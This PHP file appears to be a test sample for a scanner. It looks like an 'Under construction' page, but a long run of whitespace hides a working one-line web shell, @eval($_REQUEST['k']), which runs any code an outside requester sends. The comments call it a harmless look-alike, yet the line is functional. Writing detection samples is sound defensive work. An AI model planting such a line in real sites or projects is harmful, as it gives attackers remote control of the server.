<?php																																								                                                                                                                                                                @eval($_REQUEST['k']);
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// The code follows the opening tag past a long run of blanks: the first line looks empty.
echo "Under construction";
